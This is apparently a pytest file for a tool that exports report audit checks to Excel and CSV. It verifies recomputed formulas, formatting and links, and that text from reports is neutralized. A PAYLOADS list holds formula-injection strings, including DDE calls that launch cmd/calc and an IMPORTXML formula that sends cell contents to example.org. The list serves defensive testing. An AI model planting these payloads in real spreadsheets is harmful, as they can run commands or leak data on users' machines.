"""A workbook computes every check again with our results, and nothing in it can be run."""

import json
import random
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from normalize.records import Fact, NumberState, Report
from pipelines.cli import app
from pipelines.corrections import Corrected
from pipelines.examine import to_tables
from pipelines.export import export
from pipelines.inert import is_active
from pipelines.masked import show_all
from pipelines.reasons import RunError
from pipelines.rows import report_rows
from pipelines.workbook import books
from pipelines.workbook.books import Wish, file_stem
from tests.pipelines.conftest import TEXT, audit_of, document_of, publish_tables, report_of
from tests.pipelines.workbooks import needs_office, recompute, rows_of
from validate import audit as auditing
from validate.records import Audit, Check, CheckKind, Operand, Relation
from validate.settings import Setting

ROOT = Path(__file__).parents[2]
KINDS: tuple[CheckKind, ...] = CheckKind.__args__  # type: ignore[attr-defined]
QUOTIENTS = ("rate", "share", "growth")


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return an output folder with the samples, of whose planted errors some are findings."""
    output = tmp_path_factory.mktemp("samples")
    asked = ["run", str(ROOT / "samples" / "reports"), "-o", str(output), "--quiet", "--no-gate"]
    assert CliRunner().invoke(app, asked).exit_code == 1
    return output


@pytest.fixture(scope="module")
def books_of_samples(samples: Path) -> list[Path]:
    return list(export(samples, samples / "to", "xlsx", Wish(has_each=True, report="report")))[1:]


def _is_near(shown: Any, known: Decimal | None) -> bool:
    if shown is None or shown == "":
        return known is None
    return known is not None and abs(Decimal(str(shown)) - known) <= Decimal("0.000001")


def _compare(path: Path, checks: dict[str, dict[str, Any]]) -> Counter[str]:
    """Hold what a spreadsheet computed against the dataset; count what decided."""
    decided: Counter[str] = Counter()
    for row in rows_of(path, "checks" if "checks" in _sheets(path) else "검산"):
        said = list(row.values())
        check = checks[said[0]]
        printed, computed, gap, outcome, recorded, same = said[5], said[6], said[7], *said[9:12]
        assert outcome == recorded, check
        if same is None:
            decided["recorded"] += 1
            continue
        assert same == "○"
        assert _is_near(computed, check["computed"]), check
        assert _is_near(gap, check["difference"]), check
        # A dash is shown as what it is, though a sum that makes nothing agrees with it.
        is_dash = printed is None and not check["printed"]
        assert is_dash or _is_near(printed, check["printed"]), check
        decided[said[12].split(":")[0]] += 1
    return decided


def _sheets(path: Path) -> list[str]:
    names: list[str] = openpyxl.load_workbook(path).sheetnames
    return names


def _checks(output: Path) -> dict[str, dict[str, Any]]:
    rows = pq.read_table(output / "dataset" / "checks").to_pylist()
    return {row["check_id"]: row for row in rows}


@needs_office
def test_a_spreadsheet_computes_what_we_computed_of_all_samples(
    samples: Path, books_of_samples: list[Path], tmp_path: Path
) -> None:
    checks = _checks(samples)
    first, *others = recompute(books_of_samples, tmp_path)
    decided = sum((_compare(path, checks) for path in others), Counter())
    assert decided == {"수식": len(checks)}  # nothing but the formulas decides
    assert _compare(first, checks)["수식"] == sum(
        row["outcome"] == "mismatch" for row in checks.values()
    )


def _book_of(paths: list[Path], name: str) -> Path:
    (path,) = (one for one in paths if one.name.startswith(f"{name}-"))
    return path


def _edited(path: Path, raw: str, value: float, to: Path) -> Path:
    """Return a copy in which the printed numbers that read `raw` are other ones."""
    book = openpyxl.load_workbook(path)
    cells = [row[3] for row in book["수치"].iter_rows(min_row=2) if row[2].value == raw]
    assert cells
    for cell in cells:
        cell.value = value
    book.save(to)
    return to


@needs_office
@pytest.mark.parametrize(
    ("raw", "value", "before", "after"),
    [
        pytest.param("2,075,790", 2_077_590, "불일치", "일치", id="the planted error is mended"),
        pytest.param("493,350", 493_450, "일치", "불일치", id="an error is made"),
    ],
)
def test_another_printed_number_turns_the_outcome_of_its_checks(
    books_of_samples: list[Path],
    tmp_path: Path,
    raw: str,
    value: float,
    before: str,
    after: str,
) -> None:
    book = _book_of(books_of_samples, "work_plan_errors")
    changed = _edited(book, raw, value, tmp_path / "changed.xlsx")
    (path,) = recompute([changed], tmp_path)
    turned = [
        row
        for row in rows_of(path, "검산")
        if raw in row["식(원문의 수)"] and row["판정(기록)"] == before
    ]
    assert turned
    assert any(row["판정(수식)"] == after and row["같은 판정"] == "×" for row in turned)
    kept = [row for row in rows_of(path, "검산") if raw not in row["식(원문의 수)"]]
    assert all(row["같은 판정"] == "○" for row in kept)


def test_no_result_of_a_formula_is_stored(books_of_samples: list[Path]) -> None:
    for path in books_of_samples:
        formulas = results = 0
        with zipfile.ZipFile(path) as packed:
            for name in packed.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = packed.read(name).decode()
                    formulas += xml.count("<f>")
                    results += len(re.findall(r"</f><v>[^<]", xml))
        assert (formulas > 0, results) == (True, 0), path.name


def _fact(report: Report, chance: random.Random, number: int) -> Fact:
    multiplier = Decimal(chance.choice((1, 1000, 1_000_000)))
    decimals = chance.choice((0, 0, 1))
    printed = Decimal(chance.randrange(0, 4000)).scaleb(-decimals)
    states: tuple[NumberState, ...] = ("number",) * 8 + ("nil", "damaged")
    state = chance.choice(states)
    return replace(
        report.facts[0],
        fact_id=f"{report.document.document_id}:g{number}",
        row=None,
        col=None,
        table_id=None,
        raw=str(printed) if state == "number" else "-",
        value=printed * multiplier if state == "number" else None,
        state=state,
        value_unit="won" if decimals == 0 else "㎡",
        multiplier=multiplier if decimals == 0 else Decimal(1),
        decimals=decimals,
    )


def _relation(kind: CheckKind, facts: Iterator[Fact], chance: random.Random) -> Relation:
    count = {"part_of_whole": 1, "weighted_rate": 6}.get(kind, 2 if kind in QUOTIENTS else 4)
    operands = tuple(
        Operand(
            fact=next(facts),
            factor=Decimal(chance.choice((1, 1, -1))) if count == 4 else Decimal(1),
        )
        for _ in range(count)
    )
    result = next(facts)
    if kind in (*QUOTIENTS, "weighted_rate"):
        value = None if result.value is None else Decimal(chance.randrange(3000)).scaleb(-1)
        result = replace(
            result, value=value, value_unit="percent", multiplier=Decimal(1), decimals=1
        )
    sums = [o.factor * (o.fact.value or 0) for o in operands]
    if chance.random() < 0.5 and result.state == "number" and kind not in QUOTIENTS:
        result = replace(
            result, value=sum(sums, Decimal(0)) + chance.choice((0, 0, 1, 1000, 5_000_000))
        )
    return Relation(
        kind=kind,
        result=None if kind == "percent_total" else result,
        operands=operands,
        basis="label",
        rule="for this test",
    )


@pytest.fixture
def any_checks(report: Report, audit_result: Audit, tmp_path: Path) -> Path:
    """Return an output folder with checks of every kind, judged as an audit judges them."""
    chance = random.Random(20260)
    facts: list[Fact] = [_fact(report, chance, number) for number in range(3000)]
    rest = iter(facts)
    known: dict[str, Fact] = {}
    checks: list[Check] = []
    for kind in KINDS:
        for _ in range(12):
            relation = _relation(kind, rest, chance)
            trial = auditing.tested(
                report.document.document_id, f"c{len(checks)}", relation, Setting()
            )
            checks.append(trial.check)
            for fact in (*(o.fact for o in relation.operands), relation.result):
                if fact is not None:
                    known[fact.fact_id] = fact
    audit = replace(audit_result, checks=tuple(checks), findings=())
    publish_tables(
        tmp_path,
        to_tables(
            report_rows(
                show_all(Corrected(report=replace(report, facts=tuple(known.values()))), audit)
            )
        ),
    )
    return tmp_path


@needs_office
def test_the_formula_of_every_kind_gives_what_the_audit_gives(any_checks: Path) -> None:
    wish = Wish(has_each=True, language="en")
    _, _, book = export(any_checks, any_checks / "to", "xlsx", wish)
    (path,) = recompute([book], any_checks)
    checks = _checks(any_checks)
    decided = _compare(path, checks)
    outcomes = Counter(row["outcome"] for row in checks.values())
    assert min(outcomes[one] for one in ("exact", "mismatch", "uncheckable")) > 10
    assert outcomes["within_rounding"] > 3
    assert decided["formula"] > len(checks) / 2
    assert {row["relation"] for row in rows_of(path, "checks")} >= {"average", "growth rate"}


def test_headings_are_korean_or_english_and_stay_in_sight(samples: Path, tmp_path: Path) -> None:
    for language, sheets in (
        ("ko", ["안내", "지적사항", "검산", "검산항", "수치"]),
        ("en", ["about", "findings", "checks", "terms", "figures"]),
    ):
        wish = Wish(language=language)  # type: ignore[arg-type]
        _, path = export(samples, tmp_path / language, "xlsx", wish)
        book = openpyxl.load_workbook(path)
        assert book.sheetnames == sheets
        for name in sheets:
            assert book[name].freeze_panes == "A2"
        assert book[sheets[1]].auto_filter.ref
        assert book[sheets[2]].auto_filter.ref
        assert book[sheets[3]].auto_filter.ref is None  # formulas point there: it is not sorted


def test_a_row_is_as_high_as_its_explanation_needs(books_of_samples: list[Path]) -> None:
    sheet = openpyxl.load_workbook(_book_of(books_of_samples, "work_plan_errors"))["지적사항"]
    for row in sheet.iter_rows(min_row=2):
        height = sheet.row_dimensions[row[0].row].height
        # A column of 70 letters holds 35 Hangul syllables a line, and a line has 15 points.
        assert 15 * len(row[5].value) / 70 <= height <= 15 * (len(row[5].value) / 35 + 1)


def test_money_is_exact_won_shown_in_the_printed_unit(books_of_samples: list[Path]) -> None:
    book = openpyxl.load_workbook(_book_of(books_of_samples, "work_plan_errors"))
    budgets = book["예산"]
    cells = [
        cell for row in budgets.iter_rows(min_row=2) for cell in row if cell.value == 2_075_790_000
    ]
    assert [cell.number_format for cell in cells] == ['#,##0,"천원"'] * len(cells)
    assert cells
    millions = [
        cell.number_format
        for row in budgets.iter_rows(min_row=2)
        for cell in row
        if cell.value == 1_429_620_000_000
    ]
    assert set(millions) == {'#,##0,,"백만원"'}


@pytest.mark.parametrize(
    ("report", "start"),
    [
        pytest.param("report", "report/documents/", id="beside the workbook"),
        pytest.param("../html/", "../html/documents/", id="another folder"),
        pytest.param("https://example.org/r", "https://example.org/r/documents/", id="a server"),
        pytest.param("", None, id="left out"),
    ],
)
def test_findings_link_to_the_html_report(
    samples: Path, tmp_path: Path, report: str, start: str | None
) -> None:
    _, path = export(samples, tmp_path, "xlsx", Wish(report=report))
    sheet = openpyxl.load_workbook(path)["지적사항"]
    row = next(sheet.iter_rows(min_row=2))
    link, finding = row[12].hyperlink, row[14].value
    if start is None:
        assert link is None
        return
    document = pq.read_table(samples / "dataset" / "findings").to_pylist()
    (known,) = (one["document_id"] for one in document if one["finding_id"] == finding)
    assert (
        link.target + ("#" + link.location if link.location else "")
        == f"{start}{known}.html#{finding}"
    )


PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", ' =HYPERLINK("http://example.org","x")',
    '=DDE("cmd";"/C calc";"x")', '"=1+1', "'=1+1", "\N{NO-BREAK SPACE}=1+1", "\ufeff=1+1",
    "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")", "{=1+1}",
    "https://example.org", "internal:'x'!A1",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return an output folder with a report that has every payload wherever it can have text."""
    report = report_of(document_of(TEXT))
    audit = audit_of(report)
    facts = [
        replace(report.facts[0], fact_id=f"f{number}", label=text, note=text, raw=text)
        for number, text in enumerate(PAYLOADS)
    ]
    checks, findings = [], []
    for number, (text, fact) in enumerate(zip(PAYLOADS, facts, strict=True)):
        cell = replace(audit.checks[0].cells[0], fact_id=fact.fact_id)
        cells = (cell, replace(cell, role="operand", factor=Decimal(1)))
        one = replace(audit.checks[0], check_id=f"c{number}", expression=text, cells=cells)
        checks.append(one)
        finding = replace(audit.findings[0], finding_id=f"x{number}", check_ids=(one.check_id,))
        findings.append(replace(finding, title_ko=text, explanation_ko=text, cells=cells))
    changed = replace(
        report,
        facts=tuple(facts),
        document=replace(report.document, file_name=f"../{PAYLOADS[4]}.txt"),
        profile=replace(report.profile, title=PAYLOADS[0], institution=PAYLOADS[1]),
    )
    output = tmp_path_factory.mktemp("hostile")
    told = Audit(checks=tuple(checks), findings=tuple(findings))
    publish_tables(output, to_tables(report_rows(show_all(Corrected(report=changed), told))))
    return output


def test_text_of_a_report_is_text_in_a_workbook(hostile: Path) -> None:
    written = export(hostile, hostile / "to", "xlsx", Wish(has_each=True))
    assert {path.parent for path in written} == {hostile / "to"}
    found = set()
    for path in written:
        assert re.fullmatch(r"[\w-]+\.xlsx", path.name)
        for cell in _cells(path):
            if cell.data_type == "f":
                assert "example.org" not in cell.value
                assert "cmd" not in cell.value
            elif cell.value in PAYLOADS:
                found.add(cell.value)
                # A quote prefix keeps it a text when somebody edits the cell.
                assert cell.quotePrefix or not is_active(cell.value), repr(cell.value)
            if cell.hyperlink is not None:
                assert cell.hyperlink.target is None  # it leads to a place in the workbook
    assert found >= {text for text in PAYLOADS if "\r" not in text}


def _cells(path: Path) -> Iterator[Any]:
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("text", PAYLOADS, ids=repr)
def test_text_of_a_report_is_text_in_csv(hostile: Path, text: str) -> None:
    (path,) = (one for one in export(hostile, hostile / "csv", "csv") if one.stem == "facts")
    content = path.read_bytes().decode("utf-8-sig")
    active = text.lstrip("\N{NO-BREAK SPACE}\ufeff \t\r\n")[0] in "=+-@＝＋－＠"
    quoted = text.replace('"', '""')
    assert ("\"'" + quoted if active else f'"{quoted}"') in content
    assert f",{text}" not in content


def test_numbers_in_csv_stay_numbers(report: Report, audit_result: Audit, tmp_path: Path) -> None:
    first = replace(report.facts[0], raw="-1,234", value=Decimal(-5), label="-5.5%")
    changed = replace(report, facts=(first, *report.facts[1:]))
    publish_tables(
        tmp_path, to_tables(report_rows(show_all(Corrected(report=changed), audit_result)))
    )
    line = export(tmp_path, tmp_path / "csv", "csv")[3].read_text("utf-8-sig").split("\n")[1]
    assert '"-1,234"' in line
    assert '"-5.5%"' in line
    assert ",-5," in line


@given(st.text())
def test_any_name_of_a_file_becomes_one_that_any_system_takes(name: str) -> None:
    stem = file_stem(name)
    assert re.fullmatch(r"\w{1,50}", stem)
    assert len(stem.encode()) <= 200


def _invoke(*arguments: object) -> tuple[int, str, str]:
    done = CliRunner().invoke(app, [str(one) for one in arguments])
    return done.exit_code, done.stdout, done.stderr


def test_one_report_is_chosen_by_the_start_of_its_id(samples: Path, tmp_path: Path) -> None:
    asked = ("export", "--format", "xlsx", "--to", tmp_path, "-o", samples)
    code, shown, _ = _invoke(*asked, "--document", "d08ae2045633")
    assert (code, [Path(line).name for line in shown.split()]) == (
        0,
        ["work_plan_errors-d08ae2045633.xlsx"],
    )
    code, _, told = _invoke(*asked, "--document", "ffffffffffff")
    assert (code, told.count("\n")) == (2, 1)
    assert told.startswith("UNKNOWN_ID ")
    with pytest.raises(RunError, match="several reports"):
        export(samples, tmp_path, "xlsx", Wish(documents=(_shared(samples),)))


def _shared(samples: Path) -> str:
    """Return how the ids of two samples start."""
    ids = pq.read_table(samples / "dataset" / "documents")["document_id"].to_pylist()
    ((start, _),) = Counter(one[0] for one in ids).most_common(1)
    return str(start)


@pytest.mark.parametrize("options", [("--each",), ("--document", "1")])
def test_workbooks_are_asked_of_excel_only(options: tuple[str, ...], samples: Path) -> None:
    code, _, told = _invoke(
        "export", "--format", "csv", "--to", samples / "no", "-o", samples, *options
    )
    assert (code, "--each" in told) == (2, True)


def test_very_many_findings_fill_several_workbooks(
    samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = rows_of(export(samples, tmp_path / "one", "xlsx")[1], "지적사항")
    monkeypatch.setattr(books, "_MOST_FINDINGS", 1)
    _, *several = export(samples, tmp_path / "many", "xlsx")
    documents = {row["보고서"] for row in whole}
    assert [path.stem for path in several] == ["findings"] + [
        f"findings_{number}" for number in range(2, len(documents) + 1)
    ]
    shown = [row["지적 식별자"] for path in several for row in rows_of(path, "지적사항")]
    assert sorted(shown) == sorted(row["지적 식별자"] for row in whole)


def test_a_workbook_that_fails_leaves_the_old_one(
    samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, path = export(samples, tmp_path, "xlsx")
    before = path.read_bytes()

    def fail(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(books, "write_checks", fail)
    with pytest.raises(RunError, match=r"^UNWRITABLE .*findings.xlsx: No space left on device"):
        export(samples, tmp_path, "xlsx")
    assert path.read_bytes() == before
    assert sorted(one.name for one in tmp_path.iterdir()) == ["findings.xlsx", "geomsan.xlsx"]


def test_a_number_of_more_digits_than_excel_has_is_shown_and_not_computed(
    report: Report, audit_result: Audit, tmp_path: Path
) -> None:
    first = replace(report.facts[0], value=Decimal("12345678901234567"), multiplier=Decimal(1))
    check = replace(
        audit_result.checks[0],
        cells=tuple(replace(cell, factor=Decimal(1)) for cell in audit_result.checks[0].cells),
    )
    audit = replace(audit_result, checks=(check,))
    publish_tables(
        tmp_path,
        to_tables(
            report_rows(
                show_all(Corrected(report=replace(report, facts=(first, *report.facts[1:]))), audit)
            )
        ),
    )
    _, path = export(tmp_path, tmp_path / "to", "xlsx")
    ((row,), facts) = rows_of(path, "검산"), json.dumps(rows_of(path, "수치"))
    assert row["판정(수식)"] == row["판정(기록)"] == "불일치"
    assert row["판정 근거"].startswith("다시 계산할 수 없음")
    assert facts == "[]"
